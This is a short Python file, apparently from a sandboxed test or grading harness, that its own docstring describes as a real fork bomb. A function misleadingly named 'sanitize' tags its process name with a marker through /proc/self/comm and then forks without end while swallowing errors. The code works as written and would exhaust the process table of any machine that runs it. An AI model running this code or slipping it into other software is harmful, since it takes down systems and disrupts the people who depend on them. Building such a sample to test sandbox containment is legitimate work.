"""A real fork bomb. Only ever graded in the sandbox, after the bounded test passed."""

import os

PARAMS = {}


def sanitize(x, y, tools):
    with open("/proc/self/comm", "w") as comm:  # inherited by every child
        comm.write(PARAMS["marker"])
    while True:
        try:
            os.fork()
        except OSError:
            pass
